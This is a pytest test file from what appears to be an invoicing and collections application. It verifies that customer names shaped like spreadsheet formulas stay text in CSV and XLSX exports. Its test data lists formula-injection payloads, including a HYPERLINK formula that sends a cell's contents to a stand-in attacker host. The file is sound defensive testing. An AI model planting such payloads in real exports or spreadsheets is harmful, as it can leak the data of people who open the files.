"""Issue #17, finding 3: a customer name that is a formula (sent through the API, say) stays text in every export:
CSV cells get a leading apostrophe (defusedcsv), XLSX cells are text cells, never formulas — in the reports, the
collection hand-over file and the agencies' invoicing template."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from core.kernel.cells import csv_writer, is_formula_like
from core.registers import register as registers
from core.registers.models import Customer
from core.requests.batch_template import build_template
from tests.conftest import run_cli
from tests.period.helpers import make_invoice

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]


def _evil_customer(session, name: str) -> Customer:
    cust = session.exec(select(Customer).where(Customer.customer_number == "10002")).one()
    cust.name = name
    session.add(cust)
    session.flush()
    return cust


@pytest.mark.parametrize("name", EVIL)
def test_formula_like_names_stay_text_in_reports(demo, capsys, tmp_path, name):
    _evil_customer(demo, name)
    make_invoice(demo, customer="10002", day=dt.date(2026, 1, 10))
    demo.commit()
    out = tmp_path / "open.csv"
    code, _, err = run_cli(capsys, "report", "open-items", "--agency", "HYDRO-SE", "--date", "2026-04-15",
                           "--format", "csv", "-o", str(out))
    assert code == 0, err
    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline=""), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert "'" + name in cells and name not in cells
    xlsx = tmp_path / "open.xlsx"
    code, _, err = run_cli(capsys, "report", "open-items", "--agency", "HYDRO-SE", "--date", "2026-04-15",
                           "--format", "xlsx", "-o", str(xlsx))
    assert code == 0, err
    ws = load_workbook(xlsx).active
    found = [c for r in ws.iter_rows() for c in r if c.value == name]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_invoicing_template_keeps_register_names_as_text(demo):
    _evil_customer(demo, EVIL[0])
    make_invoice(demo, customer="10002", day=dt.date(2026, 1, 10))
    demo.commit()
    agency = registers.agency_by_code(demo, "HYDRO-SE")
    wb = load_workbook(io.BytesIO(build_template(demo, agency, "sv")))
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    assert any(c.value == EVIL[0] and c.data_type == "s" for c in cells)
    assert not [c for c in cells if c.data_type == "f"]


def test_the_csv_writer_leaves_numbers_and_dates_alone():
    buf = io.StringIO()
    csv_writer(buf, delimiter=";").writerow(["-12.50", "2026-01-31", "+46 8 123", "=1", "Åsa"])
    assert buf.getvalue().strip() == "-12.50;2026-01-31;'+46 8 123;'=1;Åsa"
    assert not is_formula_like("-1 234,50") and is_formula_like("-A1")
